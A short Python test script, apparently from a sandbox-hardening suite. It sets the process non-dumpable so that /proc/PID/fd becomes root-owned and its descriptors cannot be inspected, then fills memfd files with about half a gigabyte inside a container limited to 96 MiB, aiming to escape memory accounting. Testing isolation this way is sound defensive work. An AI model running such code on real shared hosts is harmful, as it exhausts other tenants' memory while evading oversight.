"""Takes memory in files, and forbids the look at its descriptors: /proc/PID/fd is root's then.

Would gain: the host's memory, where no control group counts what no process has mapped.
"""
import os
import time

from inside import libc, main, say

PR_SET_DUMPABLE = 4


def attack():
    libc.prctl(PR_SET_DUMPABLE, 0, 0, 0, 0)
    held, block = [], b"x" * (1 << 20)
    for _ in range(4):
        fd = os.memfd_create("x")
        held.append(fd)
        for _ in range(128):
            os.write(fd, block)
    time.sleep(3)
    say(attempt="half a gigabyte in memfds", got=True, errno=None)


def host(case):
    yield {"flags": ["--memory", "96MiB"]}


if __name__ == "__main__":
    main(attack)
